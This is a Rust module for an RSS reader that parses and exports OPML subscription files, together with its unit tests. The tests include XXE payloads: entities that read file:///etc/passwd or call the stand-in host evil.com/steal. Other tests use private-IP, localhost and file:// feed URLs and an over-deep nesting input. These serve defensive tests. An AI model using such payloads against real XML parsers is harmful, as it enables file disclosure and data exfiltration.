use anyhow::{Context, Result};
use quick_xml::events::{BytesDecl, BytesEnd, BytesStart, BytesText, Event};
use quick_xml::{Reader, Writer};
use std::io::Cursor;
use thiserror::Error;

use crate::outline::{FeedReference, Folder, OutlineNode, SubscriptionTree};
use crate::util::{clean_title, validate_url};

/// Maximum allowed nesting depth for OPML outline elements.
/// Deeper documents are rejected before they can exhaust the stack.
pub const MAX_OPML_DEPTH: usize = 50;

/// Errors that can occur during OPML parsing.
#[derive(Debug, Error)]
pub enum OpmlError {
    /// OPML nesting depth exceeds safety limit.
    #[error("OPML nesting depth exceeds maximum of {0} levels")]
    MaxDepthExceeded(usize),

    /// XML parsing failed.
    #[error("XML parse error: {0}")]
    XmlParse(String),
}

impl From<quick_xml::Error> for OpmlError {
    fn from(e: quick_xml::Error) -> Self {
        OpmlError::XmlParse(e.to_string())
    }
}

/// Attributes of one `<outline>` element.
struct OutlineAttrs {
    title: String,
    xml_url: Option<String>,
    html_url: Option<String>,
}

/// Parses an OPML document into top-level outlines.
///
/// Outlines with an `xmlUrl` become feed references, outlines without one
/// become folders. Only one level of folders is kept: feeds inside deeper
/// folders are hoisted into their top-level folder. A feed title falls back
/// to the `text` attribute and is otherwise left empty, to be filled from
/// the feed itself.
///
/// Feed URLs that fail [`validate_url`] (non-HTTP schemes, localhost,
/// private networks) are skipped with a warning.
///
/// # Security
///
/// `quick-xml` never parses `<!ENTITY>` declarations. Attribute values are
/// unescaped with `decode_and_unescape_value()`, which only knows the five
/// XML builtins, so a custom entity reference is a parse error rather than
/// an expansion.
pub fn parse_document(content: &str) -> Result<Vec<OutlineNode>, OpmlError> {
    let mut reader = Reader::from_str(content);
    reader.config_mut().trim_text(true);

    let mut outlines: Vec<OutlineNode> = Vec::new();
    let mut buf = Vec::new();
    let mut depth: usize = 0;
    // One entry per open <outline>; true when it opened a top-level folder
    let mut open: Vec<bool> = Vec::new();
    let mut current_folder: Option<usize> = None;

    loop {
        match reader.read_event_into(&mut buf) {
            Ok(Event::Start(e)) if e.name().as_ref() == b"outline" => {
                depth += 1;
                if depth > MAX_OPML_DEPTH {
                    return Err(OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH));
                }

                let attrs = parse_outline_attributes(&e, &reader)?;
                let opened_folder = attrs.xml_url.is_none() && current_folder.is_none();
                place_outline(&mut outlines, current_folder, attrs);
                if opened_folder {
                    current_folder = Some(outlines.len() - 1);
                }
                open.push(opened_folder);
            }
            Ok(Event::Empty(e)) if e.name().as_ref() == b"outline" => {
                // Self-closing outline doesn't affect depth
                let attrs = parse_outline_attributes(&e, &reader)?;
                place_outline(&mut outlines, current_folder, attrs);
            }
            Ok(Event::End(e)) if e.name().as_ref() == b"outline" => {
                depth = depth.saturating_sub(1);
                if open.pop() == Some(true) {
                    current_folder = None;
                }
            }
            Ok(Event::Eof) => break,
            Err(e) => return Err(e.into()),
            _ => {}
        }
        buf.clear();
    }

    Ok(outlines)
}

/// Adds one outline either at the top level or into the open top-level folder.
///
/// Folders below the top level are not materialized; their feeds land in
/// the enclosing top-level folder.
fn place_outline(outlines: &mut Vec<OutlineNode>, current_folder: Option<usize>, attrs: OutlineAttrs) {
    let node = match attrs.xml_url {
        Some(url) => match validate_url(&url) {
            Ok(_) => OutlineNode::FeedReference(FeedReference {
                url,
                title: attrs.title,
                link: attrs.html_url,
            }),
            Err(e) => {
                tracing::warn!(url = %url, error = %e, "Skipping invalid feed URL");
                return;
            }
        },
        None if current_folder.is_none() => OutlineNode::Folder(Folder::new(attrs.title, Vec::new())),
        None => return,
    };

    let is_feed = matches!(node, OutlineNode::FeedReference(_));
    if let (true, Some(i)) = (is_feed, current_folder) {
        if let Some(OutlineNode::Folder(folder)) = outlines.get_mut(i) {
            folder.children.push(node);
            return;
        }
    }
    outlines.push(node);
}

fn parse_outline_attributes(
    e: &BytesStart<'_>,
    reader: &Reader<&[u8]>,
) -> Result<OutlineAttrs, OpmlError> {
    let mut xml_url = None;
    let mut html_url = None;
    let mut title: Option<String> = None;
    let mut text: Option<String> = None;

    for attr_result in e.attributes() {
        let attr = match attr_result {
            Ok(attr) => attr,
            Err(e) => {
                tracing::warn!(error = %e, "Skipping malformed OPML attribute");
                continue;
            }
        };
        let decoder = reader.decoder();
        match attr.key.as_ref() {
            b"xmlUrl" => {
                let url = attr.decode_and_unescape_value(decoder)?;
                let url = url.trim();
                if !url.is_empty() {
                    xml_url = Some(url.to_string());
                }
            }
            b"htmlUrl" => {
                let url_str = attr.decode_and_unescape_value(decoder)?;
                match validate_url(&url_str) {
                    Ok(_) => html_url = Some(url_str.to_string()),
                    Err(e) => {
                        tracing::warn!(url = %url_str, error = %e, "Ignoring invalid htmlUrl in OPML");
                    }
                }
            }
            b"title" => title = Some(clean_title(&attr.decode_and_unescape_value(decoder)?).into_owned()),
            b"text" => text = Some(clean_title(&attr.decode_and_unescape_value(decoder)?).into_owned()),
            _ => {}
        }
    }

    let title = title
        .filter(|t| !t.is_empty())
        .or(text)
        .unwrap_or_default();

    Ok(OutlineAttrs {
        title,
        xml_url,
        html_url,
    })
}

/// Exports a subscription tree as an OPML 2.0 XML string.
///
/// Folders become `<outline>` elements wrapping their children; feeds
/// become self-closing `<outline type="rss">` elements with `text`,
/// `title`, `xmlUrl` and optionally `htmlUrl`.
pub fn export_tree(tree: &SubscriptionTree) -> Result<String> {
    let mut writer = Writer::new_with_indent(Cursor::new(Vec::new()), b' ', 2);

    writer
        .write_event(Event::Decl(BytesDecl::new("1.0", Some("UTF-8"), None)))
        .context("Failed to write XML declaration")?;

    let mut opml = BytesStart::new("opml");
    opml.push_attribute(("version", "2.0"));
    writer
        .write_event(Event::Start(opml))
        .context("Failed to write opml element")?;

    writer
        .write_event(Event::Start(BytesStart::new("head")))
        .context("Failed to write head element")?;
    writer
        .write_event(Event::Start(BytesStart::new("title")))
        .context("Failed to write title element")?;
    writer
        .write_event(Event::Text(BytesText::new("foldread subscriptions")))
        .context("Failed to write title text")?;
    writer
        .write_event(Event::End(BytesEnd::new("title")))
        .context("Failed to write title end")?;
    writer
        .write_event(Event::End(BytesEnd::new("head")))
        .context("Failed to write head end")?;

    writer
        .write_event(Event::Start(BytesStart::new("body")))
        .context("Failed to write body element")?;

    write_outlines(&mut writer, &tree.outlines)?;

    writer
        .write_event(Event::End(BytesEnd::new("body")))
        .context("Failed to write body end")?;
    writer
        .write_event(Event::End(BytesEnd::new("opml")))
        .context("Failed to write opml end")?;

    let result = writer.into_inner().into_inner();
    String::from_utf8(result).context("Generated OPML contains invalid UTF-8")
}

fn write_outlines(writer: &mut Writer<Cursor<Vec<u8>>>, nodes: &[OutlineNode]) -> Result<()> {
    for node in nodes {
        match node {
            OutlineNode::FeedReference(feed) => {
                let mut outline = BytesStart::new("outline");
                outline.push_attribute(("type", "rss"));
                outline.push_attribute(("text", feed.title.as_str()));
                outline.push_attribute(("title", feed.title.as_str()));
                outline.push_attribute(("xmlUrl", feed.url.as_str()));
                if let Some(ref link) = feed.link {
                    outline.push_attribute(("htmlUrl", link.as_str()));
                }
                writer
                    .write_event(Event::Empty(outline))
                    .context("Failed to write outline element")?;
            }
            OutlineNode::Folder(folder) => {
                let mut outline = BytesStart::new("outline");
                outline.push_attribute(("text", folder.title.as_str()));
                outline.push_attribute(("title", folder.title.as_str()));
                if folder.children.is_empty() {
                    writer
                        .write_event(Event::Empty(outline))
                        .context("Failed to write folder element")?;
                    continue;
                }
                writer
                    .write_event(Event::Start(outline))
                    .context("Failed to write folder element")?;
                write_outlines(writer, &folder.children)?;
                writer
                    .write_event(Event::End(BytesEnd::new("outline")))
                    .context("Failed to write folder end")?;
            }
        }
    }
    Ok(())
}

/// Exports a subscription tree to an OPML file atomically.
///
/// Writes to a temporary file in the same directory, syncs it, then renames
/// it over `path`, so the destination is never left half-written.
pub fn export_to_file(tree: &SubscriptionTree, path: &std::path::Path) -> Result<()> {
    use std::time::{SystemTime, UNIX_EPOCH};

    let content = export_tree(tree)?;

    // Randomized temp filename so concurrent exports never share a file
    let random_suffix = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or(0);
    let temp_path = path.with_extension(format!("tmp.{:016x}", random_suffix));

    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(&temp_path)
        .with_context(|| {
            format!(
                "Failed to create temporary file '{}': check directory permissions",
                temp_path.display()
            )
        })?;

    std::io::Write::write_all(&mut file, content.as_bytes()).with_context(|| {
        let _ = std::fs::remove_file(&temp_path);
        format!(
            "Failed to write OPML to temporary file '{}'",
            temp_path.display()
        )
    })?;

    file.sync_all().with_context(|| {
        let _ = std::fs::remove_file(&temp_path);
        format!(
            "Failed to sync temporary file '{}' to disk",
            temp_path.display()
        )
    })?;

    drop(file);

    std::fs::rename(&temp_path, path).with_context(|| {
        let _ = std::fs::remove_file(&temp_path);
        format!(
            "Failed to rename '{}' to '{}'",
            temp_path.display(),
            path.display()
        )
    })?;

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    fn feed(url: &str, title: &str) -> OutlineNode {
        FeedReference::new(url).with_title(title).into()
    }

    #[test]
    fn test_parse_document_with_folder() {
        let content = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>Test Feeds</title></head>
  <body>
    <outline type="rss" text="Top" xmlUrl="https://top.com/rss"/>
    <outline text="Blogs" title="Blogs">
      <outline type="rss" text="Example Blog" title="Example Blog" xmlUrl="https://example.com/feed.xml" htmlUrl="https://example.com"/>
      <outline type="rss" text="No HTML" title="No HTML" xmlUrl="https://nohtml.com/rss"/>
    </outline>
  </body>
</opml>"#;

        let outlines = parse_document(content).unwrap();
        assert_eq!(
            outlines,
            vec![
                feed("https://top.com/rss", "Top"),
                Folder::new(
                    "Blogs",
                    vec![
                        OutlineNode::FeedReference(FeedReference {
                            url: "https://example.com/feed.xml".to_string(),
                            title: "Example Blog".to_string(),
                            link: Some("https://example.com".to_string()),
                        }),
                        feed("https://nohtml.com/rss", "No HTML"),
                    ],
                )
                .into(),
            ]
        );
    }

    #[test]
    fn test_deeper_folders_are_hoisted() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0"><body>
    <outline text="Tech">
        <outline text="Rust">
            <outline text="Deep" xmlUrl="https://deep.com/rss"/>
        </outline>
        <outline text="Shallow" xmlUrl="https://shallow.com/rss"/>
    </outline>
    <outline text="After" xmlUrl="https://after.com/rss"/>
</body></opml>"#;

        let outlines = parse_document(content).unwrap();
        assert_eq!(
            outlines,
            vec![
                Folder::new(
                    "Tech",
                    vec![
                        feed("https://deep.com/rss", "Deep"),
                        feed("https://shallow.com/rss", "Shallow"),
                    ],
                )
                .into(),
                feed("https://after.com/rss", "After"),
            ]
        );
    }

    #[test]
    fn test_empty_top_level_folder_kept() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0"><body><outline text="Empty"/></body></opml>"#;

        let outlines = parse_document(content).unwrap();
        assert_eq!(outlines, vec![Folder::new("Empty", Vec::new()).into()]);
    }

    #[test]
    fn test_title_falls_back_to_text() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0">
  <body>
    <outline type="rss" text="Text Only" xmlUrl="https://textonly.com/feed"/>
    <outline type="rss" title="" text="Blank Title" xmlUrl="https://blank.com/feed"/>
  </body>
</opml>"#;

        let outlines = parse_document(content).unwrap();
        assert_eq!(
            outlines,
            vec![
                feed("https://textonly.com/feed", "Text Only"),
                feed("https://blank.com/feed", "Blank Title"),
            ]
        );
    }

    #[test]
    fn test_untitled_feed_keeps_empty_title() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0"><body><outline type="rss" xmlUrl="https://notitle.com/feed"/></body></opml>"#;

        let outlines = parse_document(content).unwrap();
        assert_eq!(outlines, vec![feed("https://notitle.com/feed", "")]);
    }

    #[test]
    fn test_skip_private_ip_feeds() {
        let content = r#"<?xml version="1.0"?>
    <opml version="2.0"><body>
        <outline xmlUrl="https://valid.com/feed"/>
        <outline xmlUrl="http://192.168.1.1/feed"/>
        <outline xmlUrl="http://10.0.0.1/feed"/>
    </body></opml>"#;

        let outlines = parse_document(content).unwrap();
        assert_eq!(outlines, vec![feed("https://valid.com/feed", "")]);
    }

    #[test]
    fn test_skip_localhost_and_invalid_scheme_feeds() {
        let content = r#"<?xml version="1.0"?>
    <opml version="2.0"><body>
        <outline xmlUrl="https://valid.com/feed"/>
        <outline xmlUrl="http://localhost/feed"/>
        <outline xmlUrl="http://127.0.0.1/feed"/>
        <outline xmlUrl="file:///etc/passwd"/>
        <outline xmlUrl="ftp://internal.server/feed"/>
    </body></opml>"#;

        let outlines = parse_document(content).unwrap();
        assert_eq!(outlines, vec![feed("https://valid.com/feed", "")]);
    }

    #[test]
    fn test_invalid_html_url_dropped() {
        let content = r#"<?xml version="1.0"?>
    <opml version="2.0"><body>
        <outline text="A" xmlUrl="https://valid.com/feed" htmlUrl="http://127.0.0.1/"/>
    </body></opml>"#;

        let outlines = parse_document(content).unwrap();
        assert_eq!(outlines, vec![feed("https://valid.com/feed", "A")]);
    }

    #[test]
    fn test_empty_opml() {
        let content = r#"<?xml version="1.0"?>
    <opml version="2.0"><body></body></opml>"#;

        assert!(parse_document(content).unwrap().is_empty());
    }

    #[test]
    fn test_malformed_xml_error() {
        assert!(matches!(
            parse_document("<opml><body><outline></body>"),
            Err(OpmlError::XmlParse(_))
        ));
    }

    #[test]
    fn test_external_entity_not_expanded() {
        let malicious_opml = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<opml version="2.0">
    <body>
        <outline text="&xxe;" xmlUrl="https://example.com/feed.xml"/>
    </body>
</opml>"#;

        // Either rejected outright or kept literal, never expanded
        if let Ok(outlines) = parse_document(malicious_opml) {
            for node in &outlines {
                if let OutlineNode::FeedReference(feed) = node {
                    assert!(!feed.title.contains("root:"));
                    assert!(!feed.title.contains("/bin/"));
                }
            }
        }
    }

    #[test]
    fn test_internal_entity_not_expanded() {
        let opml_with_internal_entity = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY internal "EXPANDED_VALUE">]>
<opml version="2.0">
    <body>
        <outline text="&internal;" xmlUrl="https://example.com/feed.xml"/>
    </body>
</opml>"#;

        if let Ok(outlines) = parse_document(opml_with_internal_entity) {
            for node in &outlines {
                if let OutlineNode::FeedReference(feed) = node {
                    assert!(
                        !feed.title.contains("EXPANDED_VALUE"),
                        "Internal entity was expanded! Title: {}",
                        feed.title
                    );
                }
            }
        }
    }

    #[test]
    fn test_entity_in_url_attribute_not_expanded() {
        let opml_entity_in_url = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY exfil SYSTEM "https://evil.com/steal">]>
<opml version="2.0">
    <body>
        <outline text="Legit Feed" xmlUrl="&exfil;"/>
    </body>
</opml>"#;

        if let Ok(outlines) = parse_document(opml_entity_in_url) {
            for node in &outlines {
                if let OutlineNode::FeedReference(feed) = node {
                    assert!(!feed.url.contains("evil.com"), "Entity expanded in URL: {}", feed.url);
                }
            }
        }
    }

    #[test]
    fn test_deeply_nested_opml_rejected() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..100 {
            opml.push_str(r#"<outline text="level">"#);
        }
        for _ in 0..100 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let err = parse_document(&opml).unwrap_err();
        assert!(matches!(err, OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH)));
        let msg = err.to_string();
        assert!(msg.contains("depth") && msg.contains("50"), "{}", msg);
    }

    #[test]
    fn test_nesting_at_depth_limit_allowed() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..MAX_OPML_DEPTH {
            opml.push_str(r#"<outline text="level">"#);
        }
        opml.push_str(r#"<outline text="Deep Feed" xmlUrl="https://deep.example.com/feed"/>"#);
        for _ in 0..MAX_OPML_DEPTH {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let outlines = parse_document(&opml).unwrap();
        assert_eq!(
            outlines,
            vec![Folder::new(
                "level",
                vec![feed("https://deep.example.com/feed", "Deep Feed")]
            )
            .into()]
        );
    }

    #[test]
    fn test_export_preserves_folders() {
        let tree = SubscriptionTree::new(vec![
            OutlineNode::FeedReference(FeedReference {
                url: "https://example.com/feed.xml".to_string(),
                title: "Example Blog".to_string(),
                link: Some("https://example.com/".to_string()),
            }),
            Folder::new(
                "Tech",
                vec![
                    feed("https://b.com/rss", "B"),
                    feed("https://c.com/rss", "C"),
                ],
            )
            .into(),
            Folder::new("Empty", Vec::new()).into(),
        ]);

        let exported = export_tree(&tree).unwrap();
        assert!(exported.contains(r#"<opml version="2.0">"#));
        assert_eq!(parse_document(&exported).unwrap(), tree.outlines);
    }

    #[test]
    fn test_export_empty_tree() {
        let exported = export_tree(&SubscriptionTree::default()).unwrap();
        assert!(exported.contains("<?xml"));
        assert!(exported.contains("<body"));
        assert!(parse_document(&exported).unwrap().is_empty());
    }

    #[test]
    fn test_export_xml_escaping() {
        let tree = SubscriptionTree::new(vec![feed(
            "https://example.com/feed?a=1&b=2",
            "Feed with <special> & \"chars\"",
        )]);

        let exported = export_tree(&tree).unwrap();
        assert_eq!(parse_document(&exported).unwrap(), tree.outlines);
    }

    #[test]
    fn test_export_to_file() {
        let tree = SubscriptionTree::new(vec![feed("https://example.com/feed.xml", "File Export")]);

        let path = std::env::temp_dir().join(format!(
            "foldread_export_{}.opml",
            std::process::id()
        ));
        export_to_file(&tree, &path).unwrap();

        let content = std::fs::read_to_string(&path).unwrap();
        assert_eq!(parse_document(&content).unwrap(), tree.outlines);

        let _ = std::fs::remove_file(&path);
    }
}
